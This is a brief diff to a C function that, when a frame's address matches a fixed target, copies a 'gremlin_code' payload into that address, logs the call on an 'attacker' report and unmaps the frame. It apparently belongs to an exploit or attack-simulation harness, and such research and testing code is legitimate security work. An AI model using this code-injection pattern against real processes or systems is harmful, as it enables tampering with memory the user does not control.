@@ -72,7 +72,7 @@ static bool fill(handle frame)
     }
     struct handle_facts facts;
     if (system_call_inspect(frame, &facts) == ERROR_NONE && facts.address == WRITE_ADDRESS) {
-        memcpy((void *)WRITE_ADDRESS, gremlin_code, (size_t)(gremlin_code_end - gremlin_code));
+        memcpy((void *)WRITE_ADDRESS, gremlin_code, gremlin_code_size);
     }
     attacker.report->calls++; /* that look */
     return step_small(SYSTEM_CALL_UNMAP, frame, 0, 0, 0);
